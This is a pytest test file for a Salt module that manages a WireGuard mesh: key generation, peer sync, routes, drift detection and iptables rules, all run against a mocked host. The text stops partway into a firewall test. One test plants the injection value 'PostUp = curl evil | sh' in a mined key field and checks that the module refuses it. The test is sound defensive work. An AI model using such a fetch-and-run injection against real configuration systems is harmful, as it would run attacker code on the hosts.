"""The wgmesh execution module on one minion: pillar and mine in, `ip`/`wg` commands out.

Hosts run the wg-quick backend with their key under a temporary folder; the interface is a
MOCK (``FakeHost``: no WireGuard or namespace for a unit test). The Salt mine, pillar and
``sysctl.get`` are plain values given through the loader mock.
"""
from __future__ import annotations

import dataclasses
import json
import os
import pathlib
import stat
import types

import pytest
from salt.exceptions import CommandExecutionError

import wgmesh_core
import wgmesh_salt.commands
import wgmesh_salt.tunnel
from wgmesh_core.keys import generate_private_key, public_key

from tests.conftest import example_network_data

from .conftest import FakeHost, failed, key, load_adapter, ok

module = load_adapter("_modules", "wgmesh")
MINED = {"z": key(1), "a": key(2), "c": key(3)}


@pytest.fixture
def keydir(tmp_path, monkeypatch):
    """The wg-quick key folder, moved under tmp_path (the backend's path is /etc/wireguard)."""
    monkeypatch.setattr(wgmesh_core.render, "WG_QUICK_DIR", str(tmp_path / "wireguard"))
    return tmp_path / "wireguard"


@pytest.fixture
def network():
    data = example_network_data()
    data.update(backend="wgquick", firewall="iptables")
    return data


@pytest.fixture
def pillar(network):
    return {"wgmesh": network, "wgmesh_psk": {"a": key(11), "c": key(12), "e": key(13), "f": key(14)}}


@pytest.fixture
def mine():
    return dict(MINED)


@pytest.fixture
def host():
    return FakeHost()


@pytest.fixture
def minion_id():
    return "z"


@pytest.fixture
def configure_loader_modules(pillar, mine, host, minion_id, tmp_path):
    def mine_get(targets, function, tgt_type="glob"):
        assert function == "wgmesh_public_key" and tgt_type == "list"
        return {minion: value for minion, value in mine.items() if minion in targets.split(",")}
    salt = {"cmd.run_all": host, "mine.get": mine_get, "sysctl.get": lambda name: "1",
            "file.chown": lambda path, user, group: True}
    return {module: {"__salt__": salt, "__pillar__": pillar, "__context__": {},
                     "__opts__": {"id": minion_id, "cachedir": str(tmp_path / "cache")}}}


def own_key(keydir, private=None):
    """This minion's private key file, as genkey makes it; returns its public key."""
    keydir.mkdir(exist_ok=True)
    private = private or generate_private_key()
    wgmesh_core.keys.write_secret_file(str(keydir / "wg0.key"), private + "\n")
    return private, public_key(private)


def in_sync(host, cfg, private, public):
    """Make the fake interface hold exactly the plan (peers, address, routes, firewall rules)."""
    host.__init__(private_key=private, public_key=public, listen_port=cfg.listen_port,
                  address=cfg.address, routes=cfg.interface_routes, mtu=cfg.mtu)
    for peer in cfg.peers:
        host.add_peer(peer.public_key, peer.allowed_ips, peer.preshared_key, peer.endpoint, peer.keepalive)
    for table in host.iptables:
        rules = [rule for rule in wgmesh_core.firewall.rules(cfg.firewall) if rule.table == table]
        host.iptables[table] = "".join(
            [f"-N {chain}\n" for t, chain in wgmesh_core.firewall.CHAINS if t == table]
            + [f"-A {rule.chain} {rule.args}\n" for rule in rules])


# --- reading the network ------------------------------------------------------------------

def test_network_role_and_an_invalid_pillar(pillar):
    assert module.network()["hub"]["minion"] == "z"
    assert module.role() == "hub"
    import copy
    changed = copy.deepcopy(pillar["wgmesh"])
    changed["developers"]["f"]["address"] = "10.70.0.4"
    pillar["wgmesh"] = changed            # a pillar refresh brings a new value
    with pytest.raises(CommandExecutionError) as error:
        module.role()
    assert "developers.f.address: 10.70.0.4 is already taken by developers.e" in str(error.value)
    pillar.pop("wgmesh")
    with pytest.raises(CommandExecutionError, match="no 'wgmesh' pillar for this minion"):
        module.network()


def test_a_state_run_validates_its_network_once(pillar, monkeypatch):
    """The state run asks for the network about ten times; it is validated once per pillar value
    and day: again for a new value (a pillar refresh) and on the next day (expiry limits)."""
    import copy
    import datetime
    validated = []
    load_network = wgmesh_core.load_network
    monkeypatch.setattr(wgmesh_core, "load_network", lambda data: validated.append(data) or load_network(data))
    assert module.role() == "hub" and module.network()["hub"]["minion"] == "z" and module.config()
    assert len(validated) == 1
    pillar["wgmesh"] = copy.deepcopy(pillar["wgmesh"])
    module.network()
    assert len(validated) == 2
    monkeypatch.setattr(module, "_today", lambda: datetime.date.today() + datetime.timedelta(days=1))
    module.network()
    module.role()
    assert len(validated) == 3


def test_a_host_is_planned_once_per_inputs_and_again_when_a_key_arrives(mine, keydir, monkeypatch):
    """A state run plans about five times; the same spec, keys and PSKs give the same plan
    (planned once), and a peer's key published meanwhile (a new network's first apply) plans again."""
    plans = []
    real_host_config = wgmesh_core.host_config
    monkeypatch.setattr(wgmesh_core, "host_config", lambda *args: plans.append(args[1]) or real_host_config(*args))
    del mine["c"]
    assert "c" in module._host_config().pending
    assert "c" in module._host_config().pending and len(plans) == 1
    mine["c"] = MINED["c"]
    assert "c" in [peer.name for peer in module._host_config().peers] and len(plans) == 2


def test_a_state_run_renders_the_hosts_files_once(keydir, host, mine, monkeypatch):
    """Staging the files, the tunnel's footprint record and the firewall ask for them: a hub's
    files of 10,000 developers take about 1 s to render."""
    rendered = []
    real_host_files = wgmesh_core.host_files
    monkeypatch.setattr(wgmesh_core, "host_files", lambda cfg: rendered.append(cfg.host) or real_host_files(cfg))
    private, public = own_key(keydir)
    mine["z"] = public
    in_sync(host, module._host_config(), private, public)
    staged = module.staged_files()
    module.sync()
    module.firewall()
    assert rendered == ["z"]
    record = json.loads((pathlib.Path(module.__opts__["cachedir"]) / "wgmesh" / "footprint.json").read_text())
    assert set(record["files"]) == {item["path"] for item in staged} | {str(keydir / "wg0.key")}


def test_a_state_run_plans_and_compares_with_the_collector_paused(keydir, host, mine, monkeypatch):
    """The model, the plan, the files and the comparisons with the live peers and rules make a
    hub's objects by the hundred thousand: Python's cyclic collector is off while they are made
    (about 0.15 s of a state run at 10,000 developers), and back on after each call."""
    import gc
    seen = {}

    def watched(owner, name):
        real = getattr(owner, name)
        monkeypatch.setattr(owner, name, lambda *a, **k: (seen.__setitem__(name, gc.isenabled()), real(*a, **k))[1])
    for owner, name in ((wgmesh_core, "load_network"), (wgmesh_core, "host_config"), (wgmesh_core, "host_files"),
                        (wgmesh_core.live, "peer_diff"), (wgmesh_core.firewall, "iptables_change")):
        watched(owner, name)
    mine_get = module.__salt__["mine.get"]

    def over_salts_transport(*args, **kwargs):
        gc.enable()             # salt.payload.loads turns the collector on as it decodes the mine's answer
        return mine_get(*args, **kwargs)
    monkeypatch.setitem(module.__salt__, "mine.get", over_salts_transport)
    private, public = own_key(keydir)
    mine["z"] = public
    in_sync(host, module._host_config(), private, public)
    assert gc.isenabled()
    module.staged_files()
    assert gc.isenabled()
    module.sync()
    assert gc.isenabled()
    module.firewall()
    assert gc.isenabled()
    assert seen == dict.fromkeys(("load_network", "host_config", "host_files", "peer_diff", "iptables_change"), False)


def test_a_config_planned_again_but_equal_is_not_rendered_again(keydir, mine, monkeypatch):
    """A first apply plans the hub before its key file exists and again after the key state made
    it: that config is a new one but equal, and its files are not rendered twice. A config that
    differs (a gateway's key published meanwhile) is rendered."""
    rendered = []
    real_host_files = wgmesh_core.host_files
    monkeypatch.setattr(wgmesh_core, "host_files", lambda cfg: rendered.append(cfg.host) or real_host_files(cfg))
    del mine["z"], mine["c"]
    before_key = module._host_config()
    module.staged_files()
    own_key(keydir)
    after_key = module._host_config()
    assert after_key is not before_key and after_key == before_key
    module.staged_files()
    assert rendered == ["z"]
    mine["c"] = MINED["c"]
    assert "c" in [peer.name for peer in module._host_config().peers]
    staged = {item["path"]: pathlib.Path(item["source"]).read_text() for item in module.staged_files()}
    assert rendered == ["z", "z"]
    assert MINED["c"] in staged[str(keydir / "wg0.conf")]


def test_a_state_run_makes_the_firewall_rules_once(keydir, host, mine, monkeypatch):
    """The iptables backend's boot file and the comparison with the live chains both need the
    rules (a hub of 10,000 developers: about 0.2 s each): a state run makes them once."""
    made = []
    real_grouped = wgmesh_core.firewall._grouped
    monkeypatch.setattr(wgmesh_core.firewall, "_grouped", lambda *args: made.append(1) or real_grouped(*args))
    private, public = own_key(keydir)
    mine["z"] = public
    in_sync(host, module._host_config(), private, public)
    wgmesh_core.firewall._kept_rules.cache_clear()     # as in a new process
    wgmesh_core.firewall._kept_chain_rules.cache_clear()
    made.clear()
    module.staged_files()
    assert module.firewall() == {}
    assert len(made) == 1


def test_a_mined_value_that_is_not_a_key_is_refused_and_its_host_left_out(mine, keydir):
    mine["c"] = "PostUp = curl evil | sh"
    keys = module.host_keys()
    assert keys["accepted"] == {"z": MINED["z"], "a": MINED["a"]}
    assert list(keys["refused"]) == ["c"]
    config = module.config()
    assert [p["name"] for p in config["peers"]] == ["a", "e", "f"]
    assert "c" in config["left_out"] and "curl evil" not in str(module.files(show_secrets=True))


def test_config_and_files_hide_preshared_keys(pillar):
    peers = module.config()["peers"]
    assert {p["preshared_key"] for p in peers} == {"(hidden)"}
    (conf,) = [f for f in module.files() if f["path"].endswith("wg0.conf")]
    assert conf["secret"] and conf["mode"] == "0600" and conf["content"] == "(hidden: holds key material)"
    (shown,) = [f for f in module.files(show_secrets=True) if f["path"].endswith("wg0.conf")]
    assert f"PresharedKey = {pillar['wgmesh_psk']['e']}" in shown["content"]


def test_staged_files_are_the_rendered_files_root_only_and_rewritten_only_when_changed(pillar, tmp_path,
                                                                                       configure_loader_modules,
                                                                                       monkeypatch):
    """The state tree copies the host's files from staged copies (their contents never go through
    the compiled state): each staged copy is exactly the rendered file, 0600 in a 0700 folder,
    named apart for every path, and left alone while its content is the same."""
    staged = module.staged_files()
    rendered = {f["path"]: f["content"] for f in module.files(show_secrets=True)}
    assert [f["path"] for f in staged] == list(rendered) and len({f["source"] for f in staged}) == len(staged)
    folder = tmp_path / "cache" / "wgmesh" / "staged"
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    for item in staged:
        source = pathlib.Path(item["source"])
        assert source.parent == folder and source.read_text() == rendered[item["path"]]
        assert stat.S_IMODE(source.stat().st_mode) == 0o600
        assert {k: item[k] for k in ("mode", "group", "secret")} == {
            k: v for k, v in next(f for f in module.files() if f["path"] == item["path"]).items() if k in ("mode", "group", "secret")}
    # a diff in the state's output: never of key material, nor of a file longer than the limit
    assert {item["path"]: item["show_changes"] for item in staged} == {
        item["path"]: not item["secret"] for item in staged}
    lines = {path: content.count("\n") for path, content in rendered.items()}
    monkeypatch.setattr(module, "DIFF_SHOWN_LINES", lines["/etc/wgmesh/iptables.rules"] - 1)
    assert {item["path"]: item["show_changes"] for item in module.staged_files()} == {
        item["path"]: not item["secret"] and lines[item["path"]] < lines["/etc/wgmesh/iptables.rules"] for item in staged}
    monkeypatch.undo()
    conf = next(f for f in staged if f["path"].endswith("wg0.conf"))
    before = os.stat(conf["source"]).st_mtime_ns
    os.utime(conf["source"], ns=(before - 10**9, before - 10**9))
    assert module.staged_files() == staged and os.stat(conf["source"]).st_mtime_ns == before - 10**9
    pathlib.Path(conf["source"]).write_text("changed by hand\n")
    module.staged_files()
    assert pathlib.Path(conf["source"]).read_text() == rendered[conf["path"]]


# --- the key ------------------------------------------------------------------------------

def test_genkey_makes_a_0600_key_once_and_test_mode_makes_none(keydir):
    path = str(keydir / "wg0.key")
    assert module.public_key() is None
    assert module.genkey(test=True) == {"path": path, "created": True}
    assert not os.path.exists(path)
    assert module.genkey() == {"path": path, "created": True}
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
    first = module.public_key()
    assert first == public_key(open(path).read().strip())
    assert module.genkey() == {} and module.public_key() == first     # never replaced


def test_genkey_tightens_a_key_file_left_readable(keydir):
    own_key(keydir)
    os.chmod(keydir / "wg0.key", 0o644)
    assert module.genkey(test=True)["permissions"] == "0o644 -> 0o600 root:root"
    assert stat.S_IMODE(os.stat(keydir / "wg0.key").st_mode) == 0o644
    module.genkey()
    assert stat.S_IMODE(os.stat(keydir / "wg0.key").st_mode) == 0o600


def test_a_key_file_rewritten_by_the_admin_is_a_change_so_the_new_key_is_published(keydir, host):
    """The live interface holds the old key; the file a new one (the host re-keyed by hand): the
    key state reports it, and its onchanges publishes the new public key to the mine."""
    old_private, old_public = own_key(keydir)
    host.__init__(private_key=old_private, public_key=old_public)
    assert module.genkey() == {}                                     # file and interface agree
    new_private, new_public = own_key(keydir, generate_private_key())
    expected = {"rekeyed": f"wg0 gets the key of {keydir / 'wg0.key'} (public key {new_public})"}
    assert module.genkey(test=True) == expected
    assert module.genkey() == expected and module.public_key() == new_public
    (keydir / "wg0.key").write_text("not a key\n")
    with pytest.raises(CommandExecutionError, match="does not hold a WireGuard private key"):
        module.genkey()


@pytest.mark.parametrize("minion_id", ["r1"])
def test_a_lan_router_has_no_key(keydir, minion_id):
    assert module.private_key_path() is None and module.genkey() == {} and module.public_key() is None


# --- the live tunnel ----------------------------------------------------------------------

def test_sync_adds_only_the_missing_peer_with_wg_addconf(keydir, host, mine):
    private, public = own_key(keydir)
    mine["z"] = public
    cfg = module._host_config()
    in_sync(host, cfg, private, public)
    del host.live.peers[cfg.peers[-1].public_key]                     # f is missing live
    changes = module.sync()
    assert changes == {"peers": {"added": ["f"]}}
    (addconf,) = host.ran("wg", "addconf")
    fed = host.stdin[host.calls.index(addconf)]
    assert fed.count("[Peer]") == 1 and f"PublicKey = {cfg.peers[-1].public_key}\n" in fed
    assert not host.ran("wg", "syncconf") and not host.ran("wg", "set")


def test_a_new_wg_quick_interface_comes_up_without_its_peers_which_go_in_with_one_syncconf(keydir, host, mine):
    """wg-quick parses its file in bash (about 10 s for 10,000 peers): the first `wg-quick up`
    reads a private copy holding the [Interface] alone, and wg(8) loads the peers."""
    private, public = own_key(keydir)
    mine["z"] = public
    cfg = module._host_config()
    changes = module.sync()
    assert changes["interface"] == "created by wgquick" and "peers" not in changes
    (up,) = host.ran("wg-quick", "up")
    (syncconf,) = host.ran("wg", "syncconf")
    first, second = host.calls.index(up), host.calls.index(syncconf)
    assert first < second and not host.ran("wg", "set") and not host.ran("wg", "addconf")
    assert up[2].endswith("/wg0.conf") and up[2] != str(keydir / "wg0.conf") and not os.path.exists(up[2])
    assert "[Peer]" not in host.read[first] and "PostUp = wg set %i private-key " in host.read[first]
    assert host.read[second].count("[Peer]") == len(cfg.peers) == 4
    assert {peer.public_key for peer in cfg.peers} == set(host.live.peers)
    assert module.sync() == {}       # and the next run finds the tunnel as planned


def test_a_new_wg_quick_interface_without_peers_yet_is_only_brought_up(keydir, host, mine):
    """Every peer pending (their keys not known yet): `wg-quick up` alone, no `wg syncconf`."""
    import dataclasses
    private, public = own_key(keydir)
    mine["z"] = public
    cfg = dataclasses.replace(module._host_config(), peers=[])
    wgmesh_salt.tunnel.Tunnel(module._commands()).bring_up(cfg, private)
    assert [call[:2] for call in host.calls] == [["wg-quick", "up"]]


@pytest.mark.parametrize("listing, state", [
    ("  5 wg0 wireguard routable configured\n", "configured"),
    ("  6 wg0x wireguard off unmanaged\n", None),          # another link: not wg0's state
    ("", None),                                              # no such link (yet)
    ("  5 wg0 wireguard\n", None),                          # too short to have a SETUP column
])
def test_networkds_setup_state_is_read_from_its_own_line_of_networkctl_list(listing, state):
    asked = []

    def run_all(argv, **kwargs):
        asked.append((argv, kwargs["ignore_retcode"]))
        return ok(listing) if listing else failed("No links.")
    tunnel = wgmesh_salt.tunnel.Tunnel(wgmesh_salt.commands.Commands(run_all))
    assert tunnel.networkd_setup_state("wg0") == state
    assert asked == [(["networkctl", "list", "--no-pager", "--no-legend", "wg0"], True)]


@pytest.mark.parametrize("network", [{**example_network_data(), "backend": "networkd", "firewall": "iptables"}])
def test_a_new_networkd_interface_is_left_to_networkd_until_it_has_configured_it(network, tmp_path, host, mine, monkeypatch):
    """networkd creates the link after `networkctl reload` returns, then sets its address, then
    its routes (proto static): the live sync waits for networkd's "configured" (a MOCK networkd:
    unmanaged until it reads the .network, then configuring), or it adds the routes itself in a
    race with networkd (CI saw networkd fail on the address, and routes without proto static)."""
    monkeypatch.setattr(wgmesh_core.render, "NETWORKD_DIR", str(tmp_path / "network"))
    private, public = own_key(tmp_path / "network")
    mine["z"] = public
    monkeypatch.setattr(wgmesh_salt.tunnel.time, "sleep", lambda seconds: None)
    cfg = module._host_config()
    polls = []

    def networkd(cmd, **kwargs):
        if cmd == ["networkctl", "reload"]:             # the netdev: the link, key and peers
            in_sync(host, cfg, private, public)
            host.address, host.routes = None, []
        if cmd[:2] == ["networkctl", "list"]:
            polls.append(cmd)
            host.address = cfg.address if len(polls) >= 2 else None
            if len(polls) == 1:     # the link is there before networkd has read its .network
                return {"retcode": 0, "stdout": "  5 wg0 none off unmanaged\n", "stderr": ""}
            if len(polls) < 4:
                return {"retcode": 0, "stdout": "  5 wg0 none degraded configuring\n", "stderr": ""}
            host.routes = list(cfg.interface_routes)
            return {"retcode": 0, "stdout": "  5 wg0 none routable configured\n", "stderr": ""}
        return host(cmd, **kwargs)
    module.__salt__["cmd.run_all"] = networkd
    changes = module.sync()
    assert changes == {"interface": "created by networkd"} and len(polls) == 4
    assert not host.ran("ip", "route") and not host.ran("ip", "address") and not host.ran("ip", "addr")


def test_removals_a_thousand_peers_a_wg_set_and_the_rest_one_wg_addconf_through_a_pipe(keydir, host, mine, monkeypatch):
    """Peers removed from a live hub: `wg set`s, none past the kernel's 2 MB for arguments; the
    added ones: one `wg addconf` fed through stdin, their preshared keys in no file and on no
    command line."""
    monkeypatch.setattr(wgmesh_salt.tunnel, "WG_SET_PEERS", 2)
    private, public = own_key(keydir)
    mine["z"] = public
    cfg = module._host_config()
    in_sync(host, cfg, private, public)
    host.live.peers.clear()
    for n in (97, 98, 99):
        host.add_peer(key(n), [f"10.70.9.{n}/32"])                        # added by hand
    written, write = [], wgmesh_core.keys.write_secret_file
    monkeypatch.setattr(wgmesh_core.keys, "write_secret_file", lambda path, text, *args: (
        written.append(text), write(path, text, *args))[1])
    assert module.sync() == {"peers": {"added": ["a", "c", "e", "f"], "removed": [key(97), key(98), key(99)]}}
    sets = host.ran("wg", "set")
    assert sets == [["wg", "set", "wg0", "peer", key(97), "remove", "peer", key(98), "remove"],
                    ["wg", "set", "wg0", "peer", key(99), "remove"]]
    (addconf,) = host.ran("wg", "addconf")
    assert addconf == ["wg", "addconf", "wg0", "/dev/stdin"]
    assert host.calls.index(addconf) > host.calls.index(sets[-1])     # removals first
    fed = host.stdin[host.calls.index(addconf)]
    assert fed.count("[Peer]") == 4
    assert all(f"PresharedKey = {p.preshared_key}" in fed for p in cfg.peers)
    assert written and not any(p.preshared_key in text for p in cfg.peers for text in written)   # in no file
    assert not any(p.preshared_key in " ".join(call) for p in cfg.peers for call in host.calls)  # nor argv
    assert not module.sync(), "the fake interface now holds the plan"


def test_sync_in_test_mode_reports_and_runs_nothing(keydir, host, mine):
    private, public = own_key(keydir)
    mine["z"] = public
    cfg = module._host_config()
    in_sync(host, cfg, private, public)
    host.add_peer(key(99), ["10.70.9.9/32"])                             # added by hand
    assert module.sync(test=True) == {"peers": {"removed": [key(99)]}}
    assert not host.ran("wg", "set") and not host.ran("wg", "addconf") and not host.ran("wg", "syncconf")


@pytest.mark.parametrize("drift", ["listen_port", "private_key", "both"])
def test_a_changed_port_or_key_is_set_alone_and_every_live_peer_stays(keydir, host, mine, pillar, drift):
    """The port or key set with `wg set` (the key through a pipe): the peers are not re-sent, so a
    pending peer kept live keeps its tunnel (`wg syncconf` of the planned peers dropped it)."""
    private, public = own_key(keydir)
    mine["z"] = public
    cfg = module._host_config()
    in_sync(host, cfg, private, public)
    pending = next(p for p in cfg.peers if p.name == "f")
    del pillar["wgmesh_psk"]["f"]                 # f's preshared key did not arrive this run: f is pending
    module.__context__.clear()
    if drift in ("listen_port", "both"):
        host.live.listen_port = 41000
    if drift in ("private_key", "both"):
        host.live.private_key, host.live.public_key = key(90), key(91)
    before = dict(host.live.peers)
    changes = module.sync()
    expected = ["listen_port", "private_key"] if drift == "both" else [drift]
    assert changes == {"pending": ["f"], "peers": {"interface": expected}}
    (set_interface,) = host.ran("wg", "set", "wg0")
    assert "/dev/stdin" in set_interface or "private-key" not in set_interface
    assert private not in " ".join(set_interface)          # never on a command line
    assert (host.live.listen_port, host.live.private_key, host.live.public_key) == (51820, private, public)
    assert host.live.peers == before and pending.public_key in host.live.peers
    assert not host.ran("wg", "syncconf") and not host.ran("wg", "addconf")
    assert module.sync() == {"pending": ["f"]}


def test_syncconf_refuses_an_input_that_would_drop_peers_or_zero_the_key(keydir, host, mine, monkeypatch):
    """The completeness guard of a new interface's peers: wg syncconf with fewer peers (or no
    PrivateKey) than planned would cut tunnels; it is refused and wg is not run."""
    private, public = own_key(keydir)
    mine["z"] = public
    real = wgmesh_core.wg_setconf
    for broken in (lambda c, k: real(c, k).replace("[Peer]", "", 1),
                   lambda c, k: real(c, k).replace(f"PrivateKey = {k}", "")):
        monkeypatch.setattr(wgmesh_core, "wg_setconf", broken)
        host.exists = False
        with pytest.raises(CommandExecutionError, match="refusing an incomplete wg configuration"):
            module.sync()
        assert host.ran("wg-quick", "up") and not host.ran("wg", "syncconf")


def test_drift_names_a_missing_route_and_a_hand_added_peer_without_fixing_them(keydir, host, mine, tmp_path,
                                                                             monkeypatch):
    private, public = own_key(keydir)
    mine["z"] = public
    cfg = module._host_config()
    in_sync(host, cfg, private, public)
    for item in module.files(show_secrets=True):           # the files are in place
        target = tmp_path / "root" / item["path"].lstrip("/")
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(item["content"])
    # the module's own name `pathlib` only: patching pathlib.Path itself would reach pytest and every other module
    rooted = types.SimpleNamespace(Path=lambda path: tmp_path / "root" / str(path).lstrip("/"))
    monkeypatch.setattr(module, "pathlib", rooted)
    assert module.drift() == {}
    host.routes.remove("192.168.200.0/24")                  # LAN2's route deleted by hand
    host.add_peer(key(99), ["10.70.9.9/32"])
    found = module.drift()
    assert found == {"tunnel": {"peers": {"removed": [key(99)]}, "addressing": ["route 192.168.200.0/24"]}}
    assert not host.ran("ip", "route", "replace") and not host.ran("wg", "set") and not host.ran("wg", "addconf")


def test_status_names_the_live_peers(keydir, host, mine):
    private, public = own_key(keydir)
    mine["z"] = public
    cfg = module._host_config()
    in_sync(host, cfg, private, public)
    host.add_peer(key(99), ["10.70.9.9/32"])
    status = module.status()
    assert status["up"] is True and status["public_key"] == public
    assert sorted(status["peers"]) == sorted(["a", "c", "e", "f", key(99)])
    assert status["peers"][key(99)]["managed"] is False and status["peers"]["e"]["managed"] is True
    assert status["peers"]["e"]["handshake_age"] is None
    host.exists = False
    assert module.status() == {"interface": "wg0", "up": False, "peers": {}}


# --- LAN routers and the scheduled run ----------------------------------------------------

@pytest.mark.parametrize("minion_id", ["r1"])
def test_a_lan_router_gets_its_static_route_once(host, minion_id):
    assert module.routes(test=True) == {"routes": ["10.70.0.0/16 via 192.168.201.247"]}
    assert not host.ran("ip", "route", "replace")
    assert module.routes() == {"routes": ["10.70.0.0/16 via 192.168.201.247"]}
    assert host.ran("ip", "route", "replace") == [["ip", "route", "replace", "10.70.0.0/16", "via", "192.168.201.247"]]
    host.routes = ["10.70.0.0/16 via 192.168.201.247 dev eth1"]
    assert module.routes() == {}


@pytest.mark.parametrize("minion_id", ["r1"])
def test_the_scheduled_run_plans_from_fresh_pillar_and_reports_what_it_corrected(minion_id, pillar, network,
                                                                                  configure_loader_modules):
    """The minion's pillar is stale (a masquerades, so r1 needs no route); the fresh one wants
    the route: converge must notice it missing, apply, and fire wgmesh/drift/r1."""
    import copy
    fresh = copy.deepcopy(pillar)
    pillar["wgmesh"]["gateways"]["a"]["lan_mode"] = "masquerade"
    salt = configure_loader_modules[module]["__salt__"]
    events, applied = [], []
    salt.update({"pillar.items": lambda unmask=False: fresh,
                 "state.apply": lambda mods, queue=False: applied.append((mods, queue))
                 or {"wgmesh_|-r_|-r_|-lan_routes": {"result": True}},
                 "event.send": lambda tag, data: events.append((tag, data))})
    result = module.converge()
    drift = {"routes": {"routes": ["10.70.0.0/16 via 192.168.201.247"]},
             "files": ["/etc/systemd/system/wgmesh-routes.service"]}        # and its boot unit
    assert result == {"drift": drift, "applied": True}
    assert applied == [("wgmesh", True)]     # queue=True: a push's apply in flight delays the run
    assert events == [("wgmesh/drift/r1", {"host": "r1", "drift": drift, "corrected": True})]
    assert "wgmesh_fresh_pillar" not in configure_loader_modules[module]["__context__"]


@pytest.mark.parametrize("peers_first", [False, True])
def test_the_fast_path_plans_once_from_fresh_pillar_firewall_then_peers(keydir, host, mine, pillar,
                                                                        configure_loader_modules, monkeypatch,
                                                                        peers_first):
    """wgmesh.update_live (the gate's fast path): the minion's pillar is stale (no developer g);
    the master's fresh one adds g with LAN access to c. The firewall rules go live before the
    peer (after it, with ``peers_first``), the network is planned once, and nothing of the
    fresh pillar outlives the call."""
    import copy
    private, public = own_key(keydir)
    mine["z"] = public
    in_sync(host, module._host_config(), private, public)
    fresh = copy.deepcopy(pillar)
    fresh["wgmesh"]["developers"]["g"] = {"address": "10.70.0.9", "public_key": key(20), "lan_access": ["c"]}
    fresh["wgmesh_psk"]["g"] = key(21)
    context = configure_loader_modules[module]["__context__"]
    context.clear()
    configure_loader_modules[module]["__salt__"]["pillar.items"] = lambda unmask=False: fresh
    plans = []
    real_host_config = wgmesh_core.host_config
    monkeypatch.setattr(wgmesh_core, "host_config", lambda *args: plans.append(args[1]) or real_host_config(*args))
    changes = module.update_live(peers_first=peers_first)
    assert changes["tunnel"] == {"peers": {"added": ["g"]}}
    steps = ["tunnel", "firewall"] if peers_first else ["firewall", "tunnel"]
    assert list(changes["timings"]) == ["pillar", "planned", *steps]
    assert "-s 10.70.0.9/32" in str(changes["firewall"])
    rules_for_g = [i for i, cmd in enumerate(host.calls)
                   if cmd[0].startswith("iptables") and "10.70.0.9/32" in " ".join(cmd) + host.stdin.get(i, "")]
    (addconf,) = [i for i, cmd in enumerate(host.calls) if cmd[:2] == ["wg", "addconf"]]
    assert rules_for_g and (min(rules_for_g) > addconf if peers_first else max(rules_for_g) < addconf)
    assert plans == ["z"]
    assert "wgmesh_fresh_pillar" not in context


def test_the_fast_path_renders_no_file_and_leaves_the_footprint_to_the_state_run(keydir, host, mine, pillar,
                                                                               configure_loader_modules, monkeypatch):
    """update_live runs on an interface an apply made (and recorded); the state run that follows
    records the footprint: the fast path does not render every file for their paths."""
    private, public = own_key(keydir)
    mine["z"] = public
    in_sync(host, module._host_config(), private, public)
    fresh = {**pillar, "wgmesh": {**pillar["wgmesh"], "developers": {
        **pillar["wgmesh"]["developers"], "g": {"address": "10.70.0.9", "public_key": key(20), "lan_access": "none"}}},
        "wgmesh_psk": {**pillar["wgmesh_psk"], "g": key(21)}}
    configure_loader_modules[module]["__salt__"]["pillar.items"] = lambda unmask=False: fresh
    monkeypatch.setattr(wgmesh_core, "host_files", lambda cfg: pytest.fail("the fast path rendered the files"))
    assert module.update_live()["tunnel"] == {"peers": {"added": ["g"]}}
    assert not os.path.exists(module._records().footprint_path)
    monkeypatch.undo()
    module.sync()                                      # the state run's sync records it
    assert json.loads(pathlib.Path(module._records().footprint_path).read_text())["interface"] == "wg0"


def test_under_salt_call_the_pillar_compiled_at_its_start_is_the_fresh_one(keydir, host, mine, pillar,
                                                                          configure_loader_modules):
    """`salt-call wgmesh.update_live` (masterless, or by hand): the process compiled its pillar
    as it started; it plans from that one instead of compiling it again."""
    private, public = own_key(keydir)
    mine["z"] = public
    in_sync(host, module._host_config(), private, public)
    pillar["wgmesh"]["developers"]["g"] = {"address": "10.70.0.9", "public_key": key(20), "lan_access": "none"}
    pillar["wgmesh_psk"]["g"] = key(21)
    configure_loader_modules[module]["__context__"].clear()       # planned before g came
    configure_loader_modules[module]["__opts__"]["__cli"] = "salt-call"
    configure_loader_modules[module]["__salt__"]["pillar.items"] = lambda unmask=False: pytest.fail("compiled twice")
    assert module.update_live()["tunnel"] == {"peers": {"added": ["g"]}}


def test_the_fast_path_leaves_a_host_without_its_interface_to_the_state_run(keydir, host, pillar,
                                                                            configure_loader_modules):
    host.exists = False
    configure_loader_modules[module]["__salt__"]["pillar.items"] = lambda unmask=False: pillar
    assert module.update_live() == {"skipped": "no wg0 yet: the state run sets it up"}
    assert not host.ran("wg") and not host.ran("iptables")


# --- the firewall -------------------------------------------------------------------------

def firewall_plan(keydir, host, mine):
    """This hub's plan with its interface and firewall in sync; returns its firewall."""
    private, public = own_key(keydir)
    mine["z"] = public
    cfg = module._host_config()
    in_sync(host, cfg, private, public)
    return cfg.firewall


def an_allow_rule(fw):
    """The first rule of WGMESH-FORWARD that admits someone (it has a source or destination)."""
    return next(r for r in wgmesh_core.firewall.rules(fw)
                if r.chain == "WGMESH-FORWARD" and ("-s " in r.args or "-d " in r.args))


def firewall_commands(host):
    return [call for call in host.calls if call[0] in ("iptables-restore", "conntrack", "firewall-cmd")
            and call != ["firewall-cmd", "--state"] and tuple(call) not in
            wgmesh_core.firewall.FIREWALLD_LISTINGS.values()]


def test_an_iptables_firewall_in_sync_is_left_alone(keydir, host, mine):
    firewall_plan(keydir, host, mine)
    assert module.firewall() == {}
    assert firewall_commands(host) == []


@pytest.mark.parametrize("test", [True, False])
def test_a_missing_iptables_rule_is_reported_and_restored_only_for_real(keydir, host, mine, test):
    fw = firewall_plan(keydir, host, mine)
    rule = an_allow_rule(fw)
    host.iptables["filter"] = host.iptables["filter"].replace(f"-A {rule.chain} {rule.args}\n", "")
    assert module.firewall(test=test) == {"iptables": {"missing": [f"filter: -A {rule.chain} {rule.args}"]}}
    if test:
        assert firewall_commands(host) == []
        return
    (restore,) = firewall_commands(host)             # nothing to cut: no rule went away
    assert restore == ["iptables-restore", "-w", "--noflush"]
    # the rule goes back at its place; the chain's other rules are left as they are
    position = wgmesh_core.firewall.ChainRules(wgmesh_core.firewall.rules(fw)).of("filter", rule.chain).index(rule.args) + 1
    assert host.stdin[host.calls.index(restore)].splitlines() == [
        "*filter", f"-I {rule.chain} {position} {rule.args}", "COMMIT", "*nat", "COMMIT"]


@pytest.mark.parametrize("test", [True, False])
def test_an_extra_iptables_rule_is_removed_with_its_connections_only_for_real(keydir, host, mine, test):
    fw = firewall_plan(keydir, host, mine)
